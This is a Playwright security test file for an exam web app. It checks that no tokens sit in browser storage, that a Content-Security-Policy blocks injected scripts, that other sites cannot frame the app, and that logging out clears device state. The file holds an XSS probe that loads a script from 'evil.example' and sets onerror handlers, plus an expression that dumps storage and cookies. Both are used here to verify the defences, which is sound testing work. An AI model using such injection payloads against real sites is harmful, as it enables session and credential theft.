import { expect, test } from '@playwright/test';
import {
  answer,
  aTest,
  candidate,
  handIn,
  logIn,
  option,
  rights,
  saved,
  startTest,
  stored as storedAnswers,
} from './exam';
import { runFile } from './people';

/** Everything a script of another origin could read after it got into the page. */
const stored =
  '[JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie].join("\\n")';
/** What a user's text would do if it were inserted as markup. */
const inject = `(async () => {
  const refused = new Set();
  document.addEventListener('securitypolicyviolation', (e) => refused.add(e.effectiveDirective));
  const script = document.createElement('script');
  script.textContent = 'window.ranInline = true';
  const other = document.createElement('script');
  other.src = 'https://evil.example/x.js';
  const image = document.createElement('div');
  image.innerHTML = '<img src="data:," onerror="window.ranHandler = true">';
  document.body.append(script, other, image);
  await new Promise((r) => setTimeout(r, 500));
  return { ran: [window.ranInline, window.ranHandler], refused: [...refused].sort() };
})()`;

test('threat 8, F-026: after a login no storage a script can read holds a token, and an injected script does not run', async ({
  browser,
}) => {
  const testId = await aTest(2, 'joseph');
  const { page } = await candidate(browser, 'joseph');
  await page.evaluate('localStorage.setItem("probe", "1")');
  expect(await page.evaluate<string>(stored)).toContain('probe');
  const looksLikeToken = /eyJ[\w-]+\.|token|[A-Za-z0-9_-]{40,}/i;
  for (const address of ['/dashboard', '/my-tests', `/tests/${testId}/take`]) {
    const policy = (await page.goto(address))?.headers()['content-security-policy'];
    // DevTools may evaluate text despite the policy, so the policy itself is read.
    expect(policy).toMatch(/script-src 'self'/);
    expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/);
    await page.getByRole('heading').first().waitFor();
    expect([address, looksLikeToken.exec(await page.evaluate<string>(stored))?.[0]]).toEqual([address, undefined]);
    const { ran, refused } = await page.evaluate<{ ran: unknown[]; refused: string[] }>(inject);
    expect([address, ran.filter(Boolean)]).toEqual([address, []]);
    expect(refused).toEqual(expect.arrayContaining(['script-src-attr', 'script-src-elem']));
  }
  await startTest(page, testId);
  expect(looksLikeToken.exec(await page.evaluate<string>(stored))?.[0]).toBeUndefined();
});

test('threat 18: another site cannot show the product in a frame', async ({ browser }) => {
  const page = await (await browser.newContext()).newPage();
  await page.setContent(`<iframe src="${runFile().web}/login"></iframe>`);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
});

test('F-027: after a logout the next user of this computer finds no test, and its student continues with every answer', async ({
  browser,
}) => {
  test.setTimeout(120_000);
  const saves = '**/api/v1/attempts/*/responses';
  const testId = await aTest(3, 'joseph');
  const { page, context } = await candidate(browser, 'joseph');
  await startTest(page, testId);
  await answer(page, 1);
  await saved(page);
  await page.route(saves, (route) => route.abort());
  await page.getByRole('button', { name: 'Save & Next' }).click();
  await answer(page, 2);
  await expect(page.getByText(/kept on this device/).first()).toBeVisible();

  const other = await context.newPage();
  await other.goto('/dashboard');
  await other.getByRole('button', { name: /^Account menu/ }).click();
  await other.getByRole('button', { name: 'Log out' }).click();
  const question = other.getByRole('dialog', { name: 'Log out while a test is running?' });
  await expect(question).toContainText('the clock does not stop');
  await question.getByRole('button', { name: 'Log out' }).click();
  await expect(page.getByText('Please Login First')).toBeVisible();
  await expect(page.getByText('Your answers are kept: log in to continue. The clock does not stop.')).toBeVisible();
  await other.goto(`/tests/${testId}/take`);
  await expect(other.getByText('Please Login First')).toBeVisible();
  const kept = `new Promise((done) => { indexedDB.open('kasauti-exam').onsuccess = ({ target }) => { target.result.transaction('attempts').objectStore('attempts').getAll().onsuccess = (read) => { target.result.close(); done(read.target.result); }; }; })`;
  expect(await other.evaluate(kept)).toEqual([]);
  await other.close();

  await page.unroute(saves);
  await page.getByRole('link', { name: 'Login' }).click();
  await logIn(page, 'joseph');
  await expect(page.getByRole('heading', { name: /^Question \d of 3/ })).toBeVisible();
  await saved(page);
  await page.getByRole('button', { name: /^Question 2, answered/ }).click();
  await expect(option(page, 'Right 2')).toBeChecked();
  await page.getByRole('button', { name: 'Save & Next' }).click();
  await answer(page, 3);
  expect((await storedAnswers('joseph', await handIn(page))).chosen).toEqual(rights(3));
});
